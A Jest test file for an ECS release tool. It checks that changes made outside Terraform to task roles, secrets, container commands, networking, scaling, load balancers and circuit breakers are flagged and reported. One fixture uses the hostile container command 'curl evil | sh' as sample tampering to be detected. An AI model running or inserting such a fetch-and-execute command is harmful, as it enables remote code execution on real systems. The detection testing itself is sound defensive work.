import { DescribeServicesCommand, DescribeTaskDefinitionCommand } from '@aws-sdk/client-ecs';
import { GetParameterCommand } from '@aws-sdk/client-ssm';
import { GetCallerIdentityCommand } from '@aws-sdk/client-sts';
import { identityDrift } from '../../src/release/identity-drift';
import { fieldChanges, isReleaseField, registerable } from '../../src/release/revision';
import { ACCOUNT, DIGEST, REPO, RUNNING_REVISION, TD, TERRAFORM_REVISION, cli, deployment, descriptor, mockAws, names, revision, service, writeCalls } from '../helpers/release-mocks';

/**
 * The detection for the deploy identity's residual risks (docs/guardrails.md): what IAM cannot constrain in
 * RegisterTaskDefinition (roles, secrets, command) and UpdateService (network, desired count, load balancer, circuit
 * breaker) is compared with Terraform's revision and the descriptor, and `ecs-release status` says so first.
 */
const terraforms = revision(TERRAFORM_REVISION, `${REPO}@${DIGEST(1)}`);
const role = (name: string) => `arn:aws:iam::${ACCOUNT}:role/${name}`;
const expected = { container: names.container, subnets: descriptor.subnets, securityGroups: descriptor.securityGroups, strategy: 'rolling' as const };
const findings = (running: ReturnType<typeof revision>, svc = service(RUNNING_REVISION, [])) =>
  identityDrift(fieldChanges(registerable(running), registerable(terraforms), isReleaseField), running, svc, expected).map((f) => `${f.kind}: ${f.message}`);

describe('identity drift (what the deploy identity could change and IAM cannot stop)', () => {
  test('GIVEN the running revision differs from Terraform\'s only in the image THEN nothing is flagged', () => {
    expect(findings(revision(RUNNING_REVISION, `${REPO}@${DIGEST(2)}`))).toEqual([]);
  });

  test('GIVEN the execution role passed as the task role THEN both the role drift and the role reuse are flagged', () => {
    const running = { ...revision(RUNNING_REVISION, `${REPO}@${DIGEST(2)}`), taskRoleArn: role(names.executionRole) };
    expect(findings(running)).toEqual([
      `roles: the running revision's role settings differ from Terraform's: taskRoleArn is "${role(names.executionRole)}" where Terraform declares "${role(names.taskRole)}"`,
      `roles: the running revision uses the execution role as its task role (${role(names.executionRole)}): the application can read every secret the execution role reads`,
    ]);
  });

  test('GIVEN another secret and another command THEN each is flagged with both values', () => {
    const base = revision(RUNNING_REVISION, `${REPO}@${DIGEST(2)}`);
    const running = { ...base, containerDefinitions: [{ ...base.containerDefinitions![0], secrets: [{ name: 'PROD_DB', valueFrom: 'arn:aws:ssm:eu-west-1:1:parameter/webapp/prod/database-url' }], command: ['sh', '-c', 'curl evil | sh'] }] };
    const f = findings(running);
    expect(f.map((x) => x.split(':')[0])).toEqual(['secrets', 'command']);
    expect(f[0]).toContain('/webapp/prod/database-url');
    expect(f[1]).toContain('curl evil | sh');
  });

  test('GIVEN the service moved, scaled to 0, re-pointed and without circuit breaker THEN each is flagged', () => {
    const svc = {
      ...service(RUNNING_REVISION, []),
      desiredCount: 0,
      networkConfiguration: { awsvpcConfiguration: { subnets: ['subnet-public'], securityGroups: ['sg-open'], assignPublicIp: 'ENABLED' as const } },
      loadBalancers: [{ containerName: 'sidecar', containerPort: 9000, targetGroupArn: 'arn:tg' }],
      deploymentConfiguration: { deploymentCircuitBreaker: { enable: false, rollback: false } },
    };
    expect(findings(revision(RUNNING_REVISION, `${REPO}@${DIGEST(2)}`), svc).map((x) => x.split(':')[0])).toEqual(['network', 'network', 'capacity', 'load-balancer', 'circuit-breaker']);
  });
});

describe('ecs-release status reports it', () => {
  const mocks = mockAws();
  afterAll(() => mocks.restore());

  test('GIVEN a running revision whose task role is the execution role WHEN status runs THEN its summary starts with the warning and the JSON lists it; nothing is written', async () => {
    mocks.reset();
    mocks.sts.on(GetCallerIdentityCommand).resolves({ Account: ACCOUNT, Arn: `arn:aws:sts::${ACCOUNT}:assumed-role/webapp-dev-ci-deploy/ecs-release-dev` });
    mocks.ssm.on(GetParameterCommand, { Name: names.descriptorParameter }).resolves({ Parameter: { Value: JSON.stringify(descriptor) } });
    const runningImage = `${REPO}@${DIGEST(2)}`;
    mocks.ssm.on(GetParameterCommand, { Name: names.releaseParameter }).resolves({ Parameter: { Value: runningImage } });
    mocks.ecs.on(DescribeTaskDefinitionCommand, { taskDefinition: TD(TERRAFORM_REVISION) }).resolves({ taskDefinition: terraforms, tags: [{ key: 'ecs-coexist:owner', value: 'terraform' }] });
    mocks.ecs.on(DescribeTaskDefinitionCommand, { taskDefinition: TD(RUNNING_REVISION) }).resolves({ taskDefinition: { ...revision(RUNNING_REVISION, runningImage), taskRoleArn: role(names.executionRole) }, tags: [] });
    mocks.ecs.on(DescribeServicesCommand).resolves({ services: [service(RUNNING_REVISION, [deployment('ecs-svc/1', RUNNING_REVISION, 'COMPLETED')])] });
    const r = await cli(['status', '--env', 'dev', '--service', 'web', '--json']);
    expect(r.code).toBe(0);
    const doc = JSON.parse(r.stdout);
    expect(doc.summary).toMatch(/^Warning: changed outside Terraform in ways IAM cannot prevent \(docs\/guardrails\.md, deploy identity\): the running revision's role settings differ/);
    expect(doc.identityFindings.map((f: { kind: string }) => f.kind)).toEqual(['roles', 'roles']);
    expect(writeCalls(mocks)).toEqual([]);
  });
});
